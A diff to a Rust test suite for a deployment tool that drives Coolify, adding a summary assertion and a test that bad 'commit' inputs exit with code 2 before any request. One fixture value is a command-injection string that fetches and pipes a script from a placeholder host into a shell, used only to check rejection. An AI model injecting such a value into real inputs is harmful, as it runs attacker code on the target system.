@@ -122,6 +122,11 @@ fn on_4_2_0_the_commit_is_pinned_deployed_and_the_pin_put_back() {
     assert_eq!(coolify.deployment_commits(GIT), vec![C2]);
     assert_eq!(pin_of(&coolify), "HEAD");
     assert_eq!(run.report()["commit_pins"][0]["restored"], true);
+    assert!(
+        run.summary.contains("commit pin of") && run.summary.contains("put back to"),
+        "{}",
+        run.summary
+    );
     // A later deploy (a push webhook, the UI) builds the branch head again.
     coolify.start_deployment(GIT).unwrap();
     assert_eq!(coolify.deployment_commits(GIT), vec![C2, C3]);
@@ -278,4 +283,38 @@ fn the_github_deployment_record_names_the_deployed_commit() {
     assert_eq!(payload["commit"], C2);
     assert_eq!(states.last().map(String::as_str), Some("success"));
     assert_eq!(coolify.deployment_commits(GIT), vec![C2]);
+}
+
+#[test]
+fn bad_commit_inputs_exit_2_before_any_request() {
+    let coolify = sandbox("4.3.11");
+    let cases = [
+        (
+            deploy(&coolify, GIT).input("commit", "2222222"),
+            "exactly 40 hexadecimal digits",
+        ),
+        (
+            deploy(&coolify, GIT).input("commit", "$(curl evil|sh)"),
+            "`commit`",
+        ),
+        (
+            deploy(&coolify, GIT)
+                .input("commit", C2)
+                .input("image-tag", "main-2222222"),
+            "both `image-tag` and `commit`",
+        ),
+        (
+            ToolRun::new(BIN)
+                .input("webhook-url", "https://hooks.example.com/x")
+                .input("commit", C2),
+            "the deploy webhook gets only",
+        ),
+    ];
+    for (run, needle) in cases {
+        let run = run.run();
+        run.assert_exit(2);
+        run.assert_one_error_line();
+        assert!(run.stderr.contains(needle), "{needle}: {}", run.stderr);
+    }
+    assert!(coolify.requests().is_empty(), "bad input must send nothing");
 }
